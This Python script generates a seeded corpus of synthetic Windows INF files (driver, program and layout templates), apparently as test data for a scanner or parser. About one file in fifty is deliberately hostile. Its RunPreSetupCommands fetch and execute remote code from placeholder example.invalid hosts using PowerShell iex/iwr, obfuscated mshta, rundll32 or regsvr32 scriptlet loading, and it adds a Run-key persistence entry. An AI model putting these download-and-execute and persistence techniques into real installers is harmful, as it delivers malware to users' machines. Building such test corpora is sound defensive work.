#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""Makes INF files of many kinds: corpus.py FOLDER [COUNT] [SEED]

The same seed gives the same bytes on every machine. Sizes are spread as those
of real files are: most have some kilobytes, one in a hundred a few hundred.
One in fifty would run something that somebody has to look at; hosts are below
example.invalid.
"""
import os
import random
import sys

WORDS = "bus port net modem print audio video usb hid disk tape scan card key hub".split()
KEYS = ["Parameters", "Ndi", "Ndi\\Interfaces", "Device Parameters", "Settings\\Defaults"]


class Maker:
    def __init__(self, random_):
        self.random = random_
        self.name = self.word() + self.word()

    def word(self):
        return self.random.choice(WORDS).capitalize()

    def lines(self, most):
        """A number of lines: few as a rule, now and then a hundred times that."""
        factor = 100 if self.random.random() < 0.01 else 1
        return range(self.random.randint(1, most) * factor)

    def version(self, family):
        return [
            "; %s for %s" % (family, self.name),
            "[Version]",
            'Signature="$Windows NT$"' if self.random.random() < 0.7 else "Signature=$CHICAGO$",
            "Class=%s" % self.word(),
            "ClassGuid={%08x-0000-11d0-9000-000000000000}" % self.random.getrandbits(32),
            "Provider=%Maker%",
            "DriverVer=%02d/%02d/20%02d,1.%d.0.0"
            % tuple(self.random.randint(1, top) for top in (12, 28, 25, 99)),
            "",
        ]

    def values(self, section):
        out = ["[%s]" % section]
        for i in self.lines(24):
            key = self.random.choice(KEYS)
            kind = self.random.randrange(4)
            if kind == 0:
                out.append('HKR,"%s",%s%d,0x00010001,%d' % (key, self.word(), i, i))
            elif kind == 1:
                out.append("HKR, %s, %s%d, , \"%%Maker%% %s\"" % (key, self.word(), i, self.word()))
            elif kind == 2:
                data = ",".join("%02x" % self.random.getrandbits(8) for _ in range(16))
                out.append("HKR,%s,%s%d,1,\\\r\n    %s" % (key, self.word(), i, data))
            else:
                out.append(
                    "HKLM,Software\\%%Maker%%\\%s,%s%d,0x00020000,%%%%SystemRoot%%%%\\%s.dll ; note"
                    % (self.word(), self.word(), i, self.word())
                )
        return out + [""]

    def strings(self):
        out = ["[Strings]", 'Maker="Example Hardware"']
        for i in self.lines(16):
            out.append('Device%d="%s %s %d"' % (i, self.word(), self.word(), i))
        return out

    def driver(self):
        out = self.version("a driver")
        out += ["[DestinationDirs]", "DefaultDestDir=12", "", "[Manufacturer]"]
        out += ["%Maker%=Models,NTx86,NTamd64,NTarm64", ""]
        for suffix in (".NTx86", ".NTamd64", ".NTarm64"):
            out.append("[Models%s]" % suffix)
            for i in self.lines(8):
                out.append("%%Device%d%%=Install%d,USB\\VID_%04X&PID_%04X" % (i, i % 3, i, i))
            out.append("")
        for i in range(3):
            out += ["[Install%d.NT]" % i, "CopyFiles=Files", "AddReg=Values%d,Common" % i, ""]
            out += ["[Install%d.NT.Services]" % i, "AddService=%s,2,Service" % self.name, ""]
            out += self.values("Values%d" % i)
        out += self.values("Common") + ["[Files]"]
        out += ["%s%d.sys" % (self.name, i) for i in self.lines(4)] + [""]
        out += ["[Service]", "ServiceType=1", "StartType=3", "ErrorControl=1"]
        out += ["ServiceBinary=%%12%%\\%s0.sys" % self.name, ""]
        return out + self.strings()

    def program(self):
        out = self.version("a program") + ["[DefaultInstall]", "CopyFiles=Files"]
        out += ["AddReg=Values", "DelReg=Old", "UpdateInis=Menu", ""]
        out += self.values("Values") + ["[Old]"]
        out += ["HKLM,Software\\%s%d" % (self.word(), i) for i in self.lines(8)] + ["", "[Files]"]
        out += ["%s%d.exe" % (self.word(), i) for i in self.lines(8)] + ["", "[Menu]"]
        out += ['setup.ini,progman.groups,,"group%d=%s"' % (i, self.word()) for i in self.lines(4)]
        return out + [""] + self.strings()

    def layout(self):
        out = self.version("a layout") + ["[SourceDisksNames]", '1="Disk",,,\\', ""]
        out.append("[SourceDisksFiles]")
        for i in self.lines(120):
            out.append("%s%d.dl_ = 1,,%d,,,,_x,2,0,0" % (self.word().lower(), i, i * 37))
        return out + [""] + self.strings()

    def hostile(self):
        out = ["[Version]", "Signature=$CHICAGO$", "AdvancedINF=2.5", "", "[DefaultInstall]"]
        out += ["RunPreSetupCommands=Run", "AddReg=Start", "", "[Run]"]
        out.append(
            self.random.choice(
                [
                    "powershell -w hidden -c \"iex(iwr http://%s.example.invalid/a)\"",
                    "cmd /c st^art ms^hta http://%s.example.invalid/a.hta",
                    "rundll32 url.dll,OpenURL http://%s.example.invalid/a",
                    "regsvr32 /s /n /u /i:http://%s.example.invalid/a.sct scrobj.dll",
                ]
            )
            % self.word().lower()
        )
        out += ["", "[Start]"]
        out.append("HKCU,Software\\Microsoft\\Windows\\CurrentVersion\\Run,a,,C:\\Users\\Public\\a.exe")
        return out + [""] + self.strings()

    def make(self):
        pick = self.random.random()
        if pick < 0.02:
            lines = self.hostile()
        elif pick < 0.60:
            lines = self.driver()
        elif pick < 0.90:
            lines = self.program()
        else:
            lines = self.layout()
        text = "\r\n".join(lines) + "\r\n"
        if self.random.random() < 0.15:
            return b"\xff\xfe" + text.encode("utf-16-le")
        return text.encode("ascii")


def make(folder, count, seed):
    """COUNT files below a folder, a hundred to a folder; their paths."""
    paths = []
    for i in range(count):
        where = os.path.join(folder, "%03d" % (i // 100))
        if i % 100 == 0:
            os.makedirs(where, exist_ok=True)
        path = os.path.join(where, "%05d.inf" % i)
        # seeded by a text and not a tuple: the same in every Python
        with open(path, "wb") as file:
            file.write(Maker(random.Random("%d %d" % (seed, i))).make())
        paths.append(path)
    return paths


def main():
    folder = sys.argv[1]
    count = int(sys.argv[2]) if len(sys.argv) > 2 else 10000
    seed = int(sys.argv[3]) if len(sys.argv) > 3 else 1
    paths = make(folder, count, seed)
    size = sum(os.path.getsize(path) for path in paths)
    print("%d files, %.1f MB, seed %d" % (len(paths), size / 1e6, seed))


if __name__ == "__main__":
    main()
